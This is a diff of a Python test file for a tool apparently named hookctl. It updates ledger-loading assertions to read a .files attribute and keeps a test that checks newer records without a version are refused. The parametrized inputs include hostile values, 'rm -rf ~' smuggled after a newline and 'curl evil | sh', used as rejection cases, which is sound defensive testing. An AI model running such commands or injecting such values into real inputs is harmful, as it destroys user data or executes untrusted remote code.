@@ -396,7 +396,7 @@ def own(ledger: Path) -> folders.Folders:
 def test_every_record_comes_back_as_it_was(record: Record, tmp_path: Path) -> None:
     data = store.dump({"/x": record})
     jsonschema.validate(json.loads(data), SCHEMA)
-    assert store.load(own(put(tmp_path / "ledger.json", data))) == {"/x": record}
+    assert store.load(own(put(tmp_path / "ledger.json", data))).files == {"/x": record}
 
 
 @pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
@@ -405,7 +405,7 @@ def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: P
     here = folders.here()
     put(Path(here.state) / f"{name}.json", json.dumps({f"{name}_version": 9, "needs": needs}))
     with pytest.raises(HookctlError) as caught:
-        store.load(here) if name == "ledger" else read_journal(here)
+        store.load(here).files if name == "ledger" else read_journal(here)
     assert (caught.value.code, caught.value.message) == (
         "ledger_newer", "a later hookctl is needed to read this record"
     )  # fmt: skip
